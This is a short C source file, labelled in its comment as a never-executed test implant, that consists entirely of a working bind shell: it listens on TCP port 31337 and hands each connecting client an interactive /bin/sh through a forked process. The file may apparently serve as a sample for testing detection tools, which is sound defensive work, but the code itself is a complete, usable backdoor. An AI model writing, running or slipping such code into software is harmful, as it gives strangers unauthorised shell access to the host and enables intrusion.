/* Test implant (never executed): a bind shell on TCP 31337. */
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
	struct sockaddr_in a;
	int s = socket(AF_INET, SOCK_STREAM, 0), c, one = 1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(31337);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) != 0 || listen(s, 1) != 0)
		return 1;
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			execl("/bin/sh", "sh", "-i", (char *)0);
			_exit(1);
		}
		close(c);
	}
}
